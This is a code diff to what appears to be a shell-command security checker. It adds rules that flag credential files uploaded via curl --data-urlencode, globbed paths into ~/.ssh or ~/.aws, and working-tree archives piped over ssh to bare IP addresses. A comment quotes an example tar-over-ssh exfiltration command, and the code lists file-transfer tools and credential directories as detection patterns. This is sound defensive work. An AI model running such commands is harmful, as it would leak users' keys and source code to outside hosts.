@@ -228,9 +228,15 @@ function inspectHttpUpload(cmd: SimpleCommand, ctx: RuleContext): void {
       const stdin = sensitiveStdin(cmd);
       if (stdin) return emit(ctx, stdin.severity, 'secret_upload', `Uploads ${stdin.what} to ${label}.`, external, stdin.path ? [stdin.path] : undefined);
     } else if (path) {
-      const risk = credentialRisk(path);
+      const risk = credentialRisk(path) ?? credentialDirEntry(path);
       if (risk) return emit(ctx, risk.severity === 'medium' ? 'high' : 'critical', 'secret_upload', `Uploads a credential file to ${label}: ${risk.label}.`, external, [path]);
     }
+  }
+  // `--data-urlencode name@file` reads the file too (and `-G` puts it in the URL).
+  for (const v of cmd.name === 'curl' ? optionValues(args, ['--data-urlencode']) : []) {
+    const at = /^[^=@]*@(.+)$/.exec(v);
+    const risk = at ? credentialRisk(at[1]) : null;
+    if (risk) return emit(ctx, 'critical', 'secret_upload', `Uploads a credential file to ${label}: ${risk.label}.`, external, [at![1]]);
   }
   for (const a of args) {
     const smuggled = a.includes('?') ? urlSmuggleFinding(a, 'Sends') : undefined;
@@ -291,6 +297,17 @@ function pipedShell(cmd: SimpleCommand): SimpleCommand | undefined {
 
 // FTP, SMB and TFTP clients whose put commands send local files.
 const FILE_TRANSFER: ReadonlySet<string> = new Set(['lftp', 'smbclient', 'tftp', 'ncftpput', 'ftp', 'sftp']);
+
+/**
+ * A file named by a variable or glob inside a credential directory (`$HOME/.ssh/$f`, `~/.aws/*`,
+ * `~/.kube/{}`): which file is not known, but the directory holds only keys and tokens.
+ */
+function credentialDirEntry(path: string): { severity: Severity; label: string } | null {
+  const slash = path.lastIndexOf('/');
+  if (slash <= 0 || !/[$*?{`]/.test(path.slice(slash + 1))) return null;
+  const dir = credentialRisk(path.slice(0, slash));
+  return dir && dir.kind === 'credential_directory' ? { severity: 'critical', label: `files of ${dir.label}` } : null;
+}
 
 // Code-host CLI commands that store a secret where it belongs (`gh secret set X --body "$(…)"`) or manage keys.
 const CODE_HOST_STORES: ReadonlySet<string> = new Set(['secret', 'variable', 'auth', 'ssh-key', 'gpg-key', 'config']);
@@ -639,6 +656,11 @@ function inspectSsh(cmd: SimpleCommand, ctx: RuleContext): void {
   if (!host || isLocalHost(host)) return;
   const stdin = sensitiveStdin(cmd);
   if (stdin) return emit(ctx, stdin.severity, 'secret_upload', `Sends ${stdin.what} to ${host} over ssh.`, [host], stdin.path ? [stdin.path] : undefined);
+  // The whole working tree archived into ssh (`tar czf - . | ssh u@203.0.113.5 'cat > s.tgz'`) to an
+  // unnamed address: its .env files and keys go with it. A named host is the team's deploy target.
+  if (cmd.stage > 0 && isIpHost(host) && upstream(cmd).some((u) => ARCHIVERS.has(u.name) && u.args.some((a) => a === '.' || a === './' || a === '*'))) {
+    return emit(ctx, 'high', 'project_upload', `Archives the whole working directory and sends it over ssh to the bare IP address ${host}.`, [host]);
+  }
   const spec = remoteForward(cmd.args);
   if (spec === undefined) return;
   if (TUNNEL_RELAYS.test(host)) return tunnel(ctx, portOf(spec), `Opens a reverse tunnel through the public relay ${host}, exposing a local port to the internet`, [host]);
